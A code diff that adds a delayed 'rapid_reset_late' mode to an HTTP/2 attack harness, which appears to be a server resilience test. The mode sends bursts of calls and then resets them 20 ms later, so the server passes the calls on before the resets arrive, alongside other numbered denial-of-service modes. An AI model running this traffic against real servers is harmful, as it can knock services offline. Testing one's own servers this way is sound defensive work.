@@ -10,6 +10,9 @@ server sends unless the mode says otherwise:
 - never_read: 1 connection with 2 GiB windows, 512 calls of 20,000 tokens, its
   socket never read (attack 4).
 - rapid_reset: 4 connections, bursts of HEADERS + DATA + RST_STREAM (attack 1).
+- rapid_reset_late: 4 connections, bursts of 10 calls (HEADERS + DATA), their
+  RST_STREAMs 20 ms later in a write of their own, so the server has taken
+  the calls (and passed them on) before the resets come (attack 1, delayed).
 - half_open: 2 connections, 1,000 calls each that send HEADERS and nothing
   more (attack 6).
 - early_end: 1 connection, calls that start a message whose length prefix is
@@ -190,6 +193,30 @@ def attack(host: str, port: int, mode: str, n: int, seconds: float, result: dict
             sock.sendall(out)
         except OSError:
             pass
+    elif mode == "rapid_reset_late":
+        sock.sendall(PREFACE + settings())
+        reader = threading.Thread(target=read_for, args=(sock, deadline, result, lock), daemon=True)
+        reader.start()
+        stream = 1
+        body = generate(f"rr-{n}", 4)
+        try:
+            while time.monotonic() < deadline and stream < 2_000_000_000:
+                calls, resets = b"", b""
+                for _ in range(10):
+                    calls += frame(0x1, 0x4, stream, block) + frame(0x0, 0, stream, body)
+                    resets += frame(0x3, 0, stream, struct.pack(">I", 8))
+                    stream += 2
+                    started += 1
+                sock.sendall(calls)
+                time.sleep(0.02)
+                sock.sendall(resets)
+        except OSError:
+            pass
+        with lock:
+            result["started"] += started
+        reader.join()
+        sock.close()
+        return
     elif mode in ("rapid_reset", "early_end", "connect"):
         sock.sendall(PREFACE + settings())
         reader = threading.Thread(target=read_for, args=(sock, deadline, result, lock), daemon=True)
@@ -231,6 +258,7 @@ CONNECTIONS = {
     "zero_window": 2,
     "never_read": 1,
     "rapid_reset": 4,
+    "rapid_reset_late": 4,
     "half_open": 2,
     "early_end": 1,
     "health_watch": 64,
